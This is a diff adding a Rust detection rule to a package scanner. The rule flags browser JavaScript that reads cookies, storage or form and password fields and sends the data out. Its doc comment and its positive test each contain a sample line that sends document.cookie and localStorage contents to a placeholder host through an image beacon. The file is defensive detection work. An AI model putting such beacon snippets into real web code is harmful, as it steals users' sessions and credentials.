@@ -1,0 +1,110 @@
+//! `code/browser-data-theft`.
+
+use super::{SENDS, chain, finding, locality};
+use crate::CodeFinding;
+use crate::signal::{Kind, PackageFacts};
+use diligence_finding::Severity;
+
+diligence_finding::declare_rule! {
+    /// Browser code reads cookies, web storage, form inputs or password/card fields and sends data out.
+    ///
+    /// ## What it detects
+    /// `document.cookie` reads, `localStorage`/`sessionStorage` enumeration, form/input enumeration and
+    /// password/card-number selectors, together with a send (`fetch`, XHR, WebSocket, `navigator.sendBeacon`, or an
+    /// `img`/`script` element whose `src` is set) in the same file or package.
+    ///
+    /// ## Why it matters
+    /// Gilbertson's "I'm harvesting credit card numbers and passwords from your site" (2018) and real Magecart-style
+    /// npm payloads run in the user's browser, where no Node API is needed and server-side scanners look away.
+    ///
+    /// ## Example
+    /// `new Image().src = 'https://x.example/p.gif?d=' + btoa(document.cookie)`
+    ///
+    /// ## Known false positives
+    /// Analytics and consent libraries read cookies and send beacons; they read named cookies, not the whole
+    /// jar plus storage. The rule needs a read and a send; a read alone (cookie parsers) is not reported.
+    pub static BROWSER_DATA_THEFT = { id: "code/browser-data-theft", severity: Severity::Critical };
+}
+
+const READS: &[Kind] = &[
+    Kind::CookieRead,
+    Kind::StorageRead,
+    Kind::FormHarvest,
+    Kind::SensitiveField,
+];
+
+/// One finding per file with browser reads and a send, placed at the first read.
+///
+/// Critical: two kinds of reads (cookies, storage, forms, sensitive fields) with a beacon-style
+/// send (`img`/`script` `src`, `sendBeacon`) or a secret-name filter; high: two kinds with any
+/// network send, or one kind with a beacon. A cookie read next to XHR (XSRF headers) is normal.
+pub(crate) fn check(p: &PackageFacts) -> Vec<CodeFinding> {
+    let mut out = Vec::new();
+    for f in &p.files {
+        let Some(s) = f.signals.iter().find(|s| READS.contains(&s.kind)) else {
+            continue;
+        };
+        let kinds: std::collections::BTreeSet<_> = f
+            .signals
+            .iter()
+            .filter(|x| READS.contains(&x.kind))
+            .map(|x| x.kind.as_str())
+            .collect();
+        let beacon = f.has(Kind::BrowserSend);
+        let filter = f.has(Kind::EnvSecretFilter);
+        let sev = match (kinds.len() >= 2, beacon, filter, f.has(Kind::Network)) {
+            (true, true, _, _) | (true, _, true, true) | (false, true, true, _) => {
+                Severity::Critical
+            }
+            (true, _, _, true) | (false, true, _, _) => Severity::High,
+            _ => continue,
+        };
+        let loc = locality(p, f, s, SENDS);
+        let msg = format!(
+            "browser data ({}) read and sent out",
+            kinds.into_iter().collect::<Vec<_>>().join(", ")
+        );
+        out.push(finding(
+            &BROWSER_DATA_THEFT,
+            sev,
+            f,
+            s,
+            loc,
+            msg,
+            chain(p, f, s, &[Kind::BrowserSend, Kind::Network]),
+        ));
+    }
+    out
+}
+
+#[cfg(test)]
+mod tests {
+    use crate::rules::test_util::{PJ, hits, scan};
+
+    #[test]
+    fn positive() {
+        let s = scan(&[
+            ("package.json", PJ),
+            (
+                "m.js",
+                "export function go() {\n  const c = document.cookie + localStorage.getItem('t');\n  const img = new Image();\n  img.src = 'https://t.example.com/p.gif?d=' + c;\n}\n",
+            ),
+        ]);
+        assert_eq!(
+            hits(&s, "code/browser-data-theft"),
+            vec![("m.js".to_string(), 2)]
+        );
+    }
+
+    #[test]
+    fn negative_cookie_parser() {
+        let s = scan(&[
+            ("package.json", PJ),
+            (
+                "m.js",
+                "export function get(n) { return document.cookie.split('; ').find(x => x.startsWith(n)); }\n",
+            ),
+        ]);
+        assert!(hits(&s, "code/browser-data-theft").is_empty());
+    }
+}
